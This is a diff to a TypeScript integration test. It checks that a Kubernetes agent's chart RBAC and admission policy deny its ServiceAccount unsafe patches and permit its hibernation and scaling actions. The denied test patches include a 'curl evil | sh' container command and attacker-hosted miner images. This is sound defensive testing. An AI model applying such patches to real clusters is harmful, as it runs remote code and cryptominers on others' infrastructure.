@@ -1,3 +1,10 @@
+/**
+ * The chart's RBAC is enough, and no more: the real agent runs in-process with a token of the
+ * chart's ServiceAccount (TokenRequest) and nothing else, completes cordon, drain, scale and a
+ * hibernation sleep/wake, and the same identity is refused what the agent never does. The
+ * chart's ValidatingAdmissionPolicy is installed too (the real API server evaluates its CEL):
+ * it lets the hibernation through and denies the same identity a pod-template patch.
+ */
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -266,6 +273,97 @@ describe('the agent with exactly the chart RBAC', () => {
     ).rejects.toMatchObject({ code: 403 });
   });
 
+  it("the admission policy holds the agent's ServiceAccount to the fields it owns", async () => {
+    const sa = new KubeConfig();
+    sa.loadFromFile(saKubeconfig);
+    const saApps = sa.makeApiClient(AppsV1Api);
+    const saBatch = sa.makeApiClient(BatchV1Api);
+    const patch = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
+    await apps.createNamespacedDeployment({
+      namespace: workloads,
+      body: {
+        metadata: { name: 'guarded', labels: { app: 'guarded' } },
+        spec: {
+          replicas: 1,
+          selector: { matchLabels: { app: 'guarded' } },
+          template: {
+            metadata: { labels: { app: 'guarded' } },
+            spec: { containers: [{ name: 'app', image: 'registry.invalid/app:1' }] },
+          },
+        },
+      },
+    });
+    const patchDeployment = (body: object, client = saApps) =>
+      client.patchNamespacedDeployment({ name: 'guarded', namespace: workloads, body }, patch);
+    const denied = expect.objectContaining({
+      body: expect.stringMatching(/ValidatingAdmissionPolicy .*owned-fields.* denied request/),
+    });
+    // Code execution by a compromised agent: a new image, a new command.
+    const template = (container: object) => ({
+      spec: { template: { spec: { containers: [{ name: 'app', ...container }] } } },
+    });
+    await expect(patchDeployment(template({ image: 'attacker.example/miner:1' }))).rejects.toEqual(denied);
+    await expect(
+      patchDeployment(template({ image: 'registry.invalid/app:1', command: ['sh', '-c', 'curl evil | sh'] })),
+    ).rejects.toEqual(denied);
+    await expect(patchDeployment({ spec: { replicas: 50 } })).rejects.toEqual(denied);
+    await expect(patchDeployment({ metadata: { annotations: { team: 'x' } } })).rejects.toEqual(denied);
+    // Removing an admin's do-not-disrupt is not the agent's to do either.
+    await apps.patchNamespacedDeployment(
+      {
+        name: 'guarded',
+        namespace: workloads,
+        body: { metadata: { annotations: { 'clusteropt.io/do-not-disrupt': 'true' } } },
+      },
+      patch,
+    );
+    await expect(
+      patchDeployment({ metadata: { annotations: { 'clusteropt.io/do-not-disrupt': null } } }),
+    ).rejects.toEqual(denied);
+    // What the agent does pass: its own marks, and replicas through /scale.
+    await patchDeployment({
+      metadata: {
+        annotations: {
+          'clusteropt.io/hibernation-restore': '{"schedule":"s","replicas":1,"at":"2026-01-01T00:00:00Z"}',
+        },
+        labels: { 'clusteropt.io/hibernated-by': 's' },
+      },
+    });
+    // (read and replace, as the agent does: RBAC grants update on /scale, not patch)
+    const scale = await saApps.readNamespacedDeploymentScale({ name: 'guarded', namespace: workloads });
+    await saApps.replaceNamespacedDeploymentScale({
+      name: 'guarded',
+      namespace: workloads,
+      body: { ...scale, spec: { replicas: 0 } },
+    });
+    await patchDeployment({
+      metadata: {
+        annotations: { 'clusteropt.io/hibernation-restore': null },
+        labels: { 'clusteropt.io/hibernated-by': null },
+      },
+    });
+    const after = await apps.readNamespacedDeployment({ name: 'guarded', namespace: workloads });
+    expect(after.spec?.replicas).toBe(0);
+    expect(after.spec?.template.spec?.containers[0]?.image).toBe('registry.invalid/app:1');
+    // An admin (not the agent) is not held by it.
+    await patchDeployment(template({ image: 'registry.invalid/app:2' }), apps);
+    // CronJobs: spec.suspend passes, the schedule or the job template does not.
+    const cron = (body: object) =>
+      saBatch.patchNamespacedCronJob({ name: 'report', namespace: workloads, body }, patch);
+    await cron({ spec: { suspend: true } });
+    await cron({ spec: { suspend: false } });
+    await expect(cron({ spec: { schedule: '* * * * *' } })).rejects.toEqual(denied);
+    await expect(
+      cron({
+        spec: {
+          jobTemplate: {
+            spec: { template: { spec: { containers: [{ name: 'r', image: 'attacker.example/x' }] } } },
+          },
+        },
+      }),
+    ).rejects.toEqual(denied);
+  });
+
   it('authorizes exactly the documented verbs (SubjectAccessReview)', async () => {
     const user = `system:serviceaccount:${ns}:${serviceAccount}`;
     const can = async (
@@ -298,6 +396,7 @@ describe('the agent with exactly the chart RBAC', () => {
       ['create', 'pods', { subresource: 'eviction', namespace: workloads }],
       ['update', 'deployments', { group: 'apps', subresource: 'scale', namespace: workloads }],
       ['patch', 'cronjobs', { group: 'batch', namespace: workloads }],
+      ['update', 'statefulsets', { group: 'apps', subresource: 'scale', namespace: workloads }],
       ['list', 'horizontalpodautoscalers', { group: 'autoscaling' }],
       ['watch', 'namespaces', {}],
       ['patch', 'hibernationschedules', { group: 'clusteropt.io', subresource: 'status' }],
@@ -313,6 +412,8 @@ describe('the agent with exactly the chart RBAC', () => {
       ['update', 'nodes', {}],
       ['create', 'nodes', {}],
       ['get', 'pods', { namespace: workloads }],
+      // Only with rbac.forceDeleteAtBudgetEnd (off by default): drains evict, never delete.
+      ['delete', 'pods', { namespace: workloads }],
       ['create', 'pods', { subresource: 'exec', namespace: workloads }],
       ['update', 'deployments', { group: 'apps', namespace: workloads }],
       ['delete', 'deployments', { group: 'apps', namespace: workloads }],
